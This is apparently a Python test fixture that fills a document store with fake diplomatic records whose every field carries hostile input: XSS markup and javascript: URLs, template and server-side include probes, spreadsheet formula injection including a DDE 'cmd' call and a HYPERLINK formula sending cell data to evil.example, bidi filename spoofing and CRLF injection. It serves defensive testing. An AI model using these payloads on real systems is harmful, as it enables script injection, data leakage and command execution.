"""A record of documents that mean harm: their words stand in every field there is."""

from dataclasses import replace

from communique.model import Document, Dossier, Heading, Judgement
from communique.store import Store
from tests.factories import (
    actor,
    commitment,
    dossier,
    engagement,
    figure,
    instrument,
    position,
    relation,
    statement,
)

_MARKUP = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "\" autofocus onfocus=window.hacked=1 x=\"' onmouseover='window.hacked=1",
    "</title></textarea></style></script><svg onload=window.hacked=1>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example>",
    "<iframe srcdoc='<script>top.hacked=1</script>'></iframe><base href=//evil.example>",
    "<a hx-get=/add hx-trigger=load data-hx-on=load>a</a>",
    "{{ 7 * 7 }}{% for a in b %}${7*7}<!--#exec cmd=x-->",
    "[a](javascript:window.hacked=1) ![b](//evil.example/c)",
)
PAYLOADS = {
    "markup": " ".join(_MARKUP),
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"more")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "bidi": "\u202egnp.exe\u2066\u202b\u200f",
    "lines": "One\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT\r\n\x1b[31m\x85\u2028end",
}
URLS = {
    "markup": "javascript:window.hacked=1",
    "formula": "data:text/html,<script>top.hacked=1</script>",
    "plus": 'https://evil.example/" onmouseover=window.hacked=1 x="',
    "at": "JaVaScRiPt:window.hacked=1",
    "minus": "vbscript:window.hacked=1",
    "bidi": " javascript:window.hacked=1",
    "lines": "java\nscript:window.hacked=1",
}


def fill(store: Store) -> None:
    """Put all of them on record, and judge one entry of each for as bad a reason."""
    for number, (name, words) in enumerate(PAYLOADS.items()):
        for year in (2031, 2032):
            store.add(*_read(words, URLS[name], number, year))
    for number, words in enumerate(PAYLOADS.values()):
        entry = store.slice().entries[number]
        store.judge(
            Judgement(f"j{number}", "accept", entry.id, {}, words, words, "2033-01-01T00:00:00")
        )


def _read(words: str, url: str, number: int, year: int) -> tuple[Document, Dossier]:
    """A document of a year; what the first announces, the second reports."""
    day = f"{year}-{number % 12 + 1:02}-10"
    held = "held" if year == 2032 else "planned"
    people = [
        actor("a1", f"{words} Freedonia{number}", "state", f"{words} Fred{number}"),
        actor("a2", f"{words} Sylvania{number}", "state"),
        actor("a3", f"{words} Lark{number}", "person"),
    ]
    made = dossier(
        f"{year}-01-05",
        people,
        position(f"{words} holds {year}", holder="a3", role=f"{words} President", body="a1"),
        engagement(
            f"{words} met {year}",
            name=f"{words} Summit",
            participants=("a3", "a2"),
            place=f"{words} Suva",
            date=f"2032-{day[5:]}",
            status=held,
        ),
        commitment(f"{words} will {year}", by=("a1",), to=("a2",), due="2032-12"),
        instrument(
            f"{words} pact {year}",
            name=f"{words} Pact",
            action="signed",
            parties=("a1", "a2"),
            number=words,
        ),
        relation(f"{words} close {year}", between=("a1", "a2"), level=f"{words} partnership"),
        figure(f"{words} 12 {year}", value=12, unit=words, of=f"{words} trade", actor="a1"),
        statement(f"{words} says {year}", by=("a3",), about=("a1",), attributed_to="a2"),
    )
    source = replace(made.sources[0], title=f"{words} {year}", publisher=words, url=url)
    head = Heading(source.title, words, source.published, url, "en", source.genre)
    document = Document(f"{words}{year}.txt", source.text, head)
    return document, replace(made, sources=(source,))
